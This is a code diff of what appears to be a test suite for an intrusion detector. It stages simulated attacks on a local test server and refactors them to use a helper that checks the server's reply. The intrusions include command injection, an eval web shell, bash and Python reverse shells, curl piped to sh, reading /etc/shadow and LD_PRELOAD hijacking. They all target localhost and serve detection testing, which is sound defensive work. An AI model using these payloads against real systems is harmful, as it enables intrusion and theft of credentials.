@@ -29,9 +29,15 @@ const unnoticed = (name: string, act: Intrusion["act"]): Intrusion => ({
 /** Through the mistake in the status script, as www-data. */
 const web =
   (command: string): Intrusion["act"] =>
-  async (server) => {
-    await server.post(`/ ; ${command}`);
-  };
+  (server) =>
+    through(server, `/ ; ${command}`);
+
+/** As `web`. An intrusion that did not happen proves nothing. */
+async function through(server: Server, what: string, script?: string): Promise<void> {
+  const status = await server.post(what, script);
+  if (status !== 200) throw new Error(`the web server answered ${status}`);
+}
+
 /** By a stolen key, as root. */
 const login =
   (command: string): Intrusion["act"] =>
@@ -68,20 +74,22 @@ export const intrusions: readonly Intrusion[] = [
     "an uploaded web shell",
     async (server) => {
       server.script("cgi/shell.cgi", '#!/bin/sh\nprintf "\\r\\n\\r\\n"\nread -r what\neval "$what"\n');
-      await server.post("true", "shell.cgi");
+      await through(server, "true", "shell.cgi");
     },
     "shell-under-app-server",
   ),
   unknown(
     "a reverse shell of bash's own (/dev/tcp)",
-    (server) => listening((port) => server.post(`/ ; bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1"`)),
+    (server) =>
+      listening((port) => through(server, `/ ; bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1"`)),
     "reverse-shell-dev-tcp",
   ),
   unknown(
     "a reverse shell by Python",
     (server) =>
       listening((port) =>
-        server.post(
+        through(
+          server,
           `/ ; ${python(
             `import socket,os,subprocess; s=socket.create_connection(("127.0.0.1",${port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; subprocess.call(["/bin/sh","-i"])`,
           )}`,
@@ -95,7 +103,7 @@ export const intrusions: readonly Intrusion[] = [
     "curl into a shell",
     async (server) => {
       writeFileSync(server.path("html", "install"), "hostname\n");
-      await server.post(`/ ; sh -c "curl -s http://127.0.0.1:${server.webPort}/install | sh"`);
+      await through(server, `/ ; sh -c "curl -s http://127.0.0.1:${server.webPort}/install | sh"`);
     },
     "download-into-shell",
   ),
@@ -135,7 +143,8 @@ export const intrusions: readonly Intrusion[] = [
     "exec-from-deleted-file",
   ),
   unknown("a shell under another name", async (server) => {
-    await server.post(
+    await through(
+      server,
       `/ ; cp /bin/dash ${server.path("run", "nginx")} ; ${server.path("run", "nginx")} -c true`,
     );
   }),
@@ -151,7 +160,7 @@ export const intrusions: readonly Intrusion[] = [
   ),
   unknown("a script for an interpreter that nobody thinks of", async (server) => {
     server.script("run/report", "#!/usr/bin/mawk -f\nBEGIN { print 1 }\n");
-    await server.post(`/ ; ${server.path("run", "report")}`);
+    await through(server, `/ ; ${server.path("run", "report")}`);
   }),
   unknown(
     "LD_PRELOAD, by env",
@@ -201,13 +210,13 @@ export const intrusions: readonly Intrusion[] = [
   unknown("a program run by the loader", web("/lib64/ld-linux-x86-64.so.2 /bin/true")),
   unknown("a known script's name in another place", async (server) => {
     const copy = server.script("run/status.cgi", "#!/bin/sh\nexit 0\n");
-    await server.post(`/ ; ${copy}`);
+    await through(server, `/ ; ${copy}`);
   }),
   unknown("a compiler on a server", login("gcc --version")),
   unknown("the file of password hashes read", login("cat /etc/shadow"), "shadow-read"),
 
   unnoticed("only what the shell itself can do", async (server) => {
-    await server.post(`/ ; echo intruder > ${server.path("run", "mark")} ; read -r line < /etc/passwd`);
+    await through(server, `/ ; echo intruder > ${server.path("run", "mark")} ; read -r line < /etc/passwd`);
   }),
   unnoticed("another file for a known program", web("df /etc")),
   unnoticed("a known command with other arguments, by a stolen key", login("uptime -p")),
@@ -224,13 +233,13 @@ export const intrusions: readonly Intrusion[] = [
     writeFileSync(source, library);
     const made = Bun.spawnSync(["gcc", "-shared", "-fPIC", "-o", server.path("run", "in.so"), source]);
     if (!made.success) throw new Error(made.stderr.toString());
-    await server.post(`/ ; LD_PRELOAD=${server.path("run", "in.so")} df /`);
+    await through(server, `/ ; LD_PRELOAD=${server.path("run", "in.so")} df /`);
   }),
   unnoticed("an own program replaced, under its name and in its place", async (server) => {
     server.script(
       "cgi/status.cgi",
       '#!/bin/sh\n: intruder\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\nread -r what\neval "df $what"\nexit 0\n',
     );
-    await server.post("/");
+    await through(server, "/");
   }),
 ];
